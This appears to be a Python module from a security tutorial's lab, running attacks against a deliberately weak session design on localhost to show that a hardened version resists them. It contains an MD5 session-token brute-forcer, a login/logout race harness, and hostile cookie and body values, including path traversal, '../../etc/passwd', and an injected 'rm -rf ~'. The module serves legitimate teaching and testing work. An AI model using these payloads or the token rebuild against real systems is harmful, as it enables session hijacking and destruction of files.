"""The security lab: attacks on the article's session design, run for real.

Each attack works against chapter 05 (the article's design) and fails against
chapter 06 (hardened). The tests (tests/test_lab.py) and the notebook
(notebooks/04-security-lab.ipynb) both use these functions; the second pass,
attacks on chapter 06 itself, is in tutorial/second_pass.py.
"""
from __future__ import annotations

import collections
import hashlib
import http.client
import json
import os
import random
import socket
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

ADMIN_MD5 = "21232f297a57a5a743894a0e4a801fc3"


def fast_hash_env(password: str = "123456") -> dict:
    """Environment for a chapter-06 server whose manager password hash takes one
    PBKDF2 iteration instead of 600,000: the lab sends thousands of logins, and the
    password's work factor has nothing to do with the attacks it shows."""
    salt = b"lab-salt"
    digest = hashlib.pbkdf2_hmac("sha256", password.encode(), salt, 1)
    return {"MANAGER_PASSWORD_HASH": "pbkdf2_sha256$1$%s$%s" % (salt.hex(), digest.hex())}


# ------------------------------------------------------------------ 1. rebuild a token offline

@dataclass
class Rebuild:
    found: bool
    guesses: int
    seconds: float
    budget: int


def rebuild_token(user: str, token: str, around: int, window: int = 2) -> Rebuild:
    """Try every token the article's makeToken could have made for `user` when
    logging in at a second within `around` ± `window`: MD5(user + time + r) for
    r from 10000 to 99999. Stops when it finds `token`."""
    started = time.perf_counter()
    guesses = 0
    budget = (2 * window + 1) * 90000
    # the most likely second first: the one the attacker saw
    for t in sorted(range(around - window, around + window + 1), key=lambda s: abs(s - around)):
        prefix = (user + str(t)).encode()
        for r in range(10000, 100000):
            guesses += 1
            if hashlib.md5(prefix + str(r).encode()).hexdigest() == token:
                return Rebuild(True, guesses, time.perf_counter() - started, budget)
    return Rebuild(False, guesses, time.perf_counter() - started, budget)


# ------------------------------------------------------------------ 2. race: login/logout on several workers

@dataclass
class Race:
    requests: int = 0
    seconds: float = 0.0
    batches: int = 1
    statuses: collections.Counter = field(default_factory=collections.Counter)

    @property
    def server_errors(self) -> int:
        return sum(n for (_, status), n in self.statuses.items() if status >= 500)


def _login_logout(port: int, rounds: int, race: Race, lock: threading.Lock) -> None:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    seen = collections.Counter()
    body = b'{"account":"admin","password":"123456"}'
    for _ in range(rounds):
        conn.request("POST", "/api/v1/be/login", body=body)
        res = conn.getresponse()
        answer = res.read()
        seen[("login", res.status)] += 1
        token = json.loads(answer).get("data", "") if res.status == 200 else ""
        conn.request("GET", "/api/v1/be/logout", headers={"Cookie": "session=%s" % token})
        res = conn.getresponse()
        res.read()
        seen[("logout", res.status)] += 1
    conn.close()
    with lock:
        race.statuses.update(seen)
        race.requests += sum(seen.values())


def race_until_it_shows(port: int, clients: int = 8, rounds: int = 40, most: int = 10, batches: int = None) -> Race:
    """Race (race_login_logout) in batches of `rounds` until a 5xx shows, at
    most `most` batches; or, with `batches`, exactly that many. How wide the
    window the race needs is depends on the file system: ext4 flushes a file
    emptied and written again when it is closed, a file system in memory does
    not, and there the window is far narrower. Racing until it shows (within a
    bound) keeps the demonstration from depending on luck; the other chapter
    then gets as many batches."""
    total = Race()
    for done in range(1, (batches or most) + 1):
        race = race_login_logout(port, clients, rounds)
        total.requests += race.requests
        total.seconds += race.seconds
        total.statuses.update(race.statuses)
        total.batches = done
        if batches is None and total.server_errors:
            break
    return total


def race_login_logout(port: int, clients: int = 8, rounds: int = 100) -> Race:
    """`clients` connections at once, each logging the same account in and out
    `rounds` times. Every login rewrites the one session file that every logout
    reads and deletes."""
    race, lock = Race(), threading.Lock()
    threads = [threading.Thread(target=_login_logout, args=(port, rounds, race, lock)) for _ in range(clients)]
    started = time.perf_counter()
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    race.seconds = time.perf_counter() - started
    return race


# ------------------------------------------------------------------ 3. hostile cookies and bodies

def hostile_cookies(planted_token: str) -> list:
    """(name, raw Cookie value) pairs. The first two point outside the session
    folder at a file the lab plants there (see plant_outside)."""
    return [
        ("traversal to a planted file", "admin|../outside/manage|%s" % planted_token),
        ("traversal, wrong token", "admin|../outside/manage|" + "0" * 32),
        ("absolute path", "admin|/etc/manage|" + "0" * 32),
        ("separators", "admin|manage|x|y"),
        ("empty parts", "||"),
        ("huge value", "admin|manage|" + "f" * 6000),
        ("non-UTF-8 bytes", b"\xff\xfe|manage|" + b"0" * 32),
        ("null byte", "admin|man\x00age|" + "0" * 32),
        ("shell metacharacters", "admin;rm -rf ~|manage|" + "0" * 32),
    ]


def hostile_bodies() -> list:
    return [
        ("not JSON", b"account=admin&password=123456"),
        ("broken JSON", b'{"account":'),
        ("a JSON list", b'["admin","123456"]'),
        ("non-UTF-8", b"\xff\xfe\xfd"),
        ("null bytes", b'{"account":"adm\\u0000in","password":"123456\\u0000"}'),
        ("deep nesting", b"[" * 100000 + b"]" * 100000),
        ("200 KB", b'{"account":"admin","password":"' + b"1" * 200000 + b'"}'),
        ("path in the account", b'{"account":"../../etc/passwd","password":"123456"}'),
    ]


def raw_get(port: int, path: str, cookie: bytes) -> tuple:
    """GET with a Cookie header of any bytes at all (HTTP clients refuse to send
    some, such as a null byte; an attacker's own program does not).
    Returns (HTTP status, decoded JSON body)."""
    request = b"GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: session=%s\r\nConnection: close\r\n\r\n" % (
        path.encode(), cookie)
    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
        sock.sendall(request)
        data = b""
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    return int(head.split(b" ")[1]), json.loads(body)


def plant_outside(session_dir: Path) -> Path:
    """A file outside the session folder, named and filled like a session file,
    at <session folder>/../outside/manage_<md5 of admin>. If a logout can be made
    to delete it, it can be made to delete files outside the session folder."""
    outside = session_dir.parent / "outside"
    outside.mkdir(exist_ok=True)
    planted = outside / ("manage_" + ADMIN_MD5)
    token = "%032x" % random.getrandbits(128)
    planted.write_text("%s,%d" % (token, int(time.time())))
    return planted


_listeners = []  # objects with an _on(event, args) method, called by the one audit hook below


def _audit(event, args):
    for listener in list(_listeners):
        listener._on(event, args)


def _install_audit_hook():
    """An audit hook cannot be removed, so one is installed once, and it does
    nothing while no listener is active."""
    if not getattr(sys, "_tutorial_lab_hook", False):
        sys.addaudithook(_audit)
        sys._tutorial_lab_hook = True


class FileAccess:
    """Records the paths Python opens, removes or renames while active."""

    EVENTS = ("open", "os.remove", "os.rename", "os.replace", "os.scandir", "os.listdir", "os.mkdir", "os.rmdir")

    def __init__(self):
        self.paths = []
        _install_audit_hook()

    def _on(self, event, args):
        if event in self.EVENTS and args and isinstance(args[0], (str, bytes, os.PathLike)):
            self.paths.append(os.fsdecode(args[0]))

    def __enter__(self):
        _listeners.append(self)
        return self

    def __exit__(self, *exc):
        _listeners.remove(self)

    def outside(self, folder) -> list:
        """Paths touched that are not inside `folder`."""
        root = os.path.realpath(folder)
        real = [os.path.realpath(p) for p in self.paths]
        return [p for p in real if os.path.commonpath([root, p]) != root]
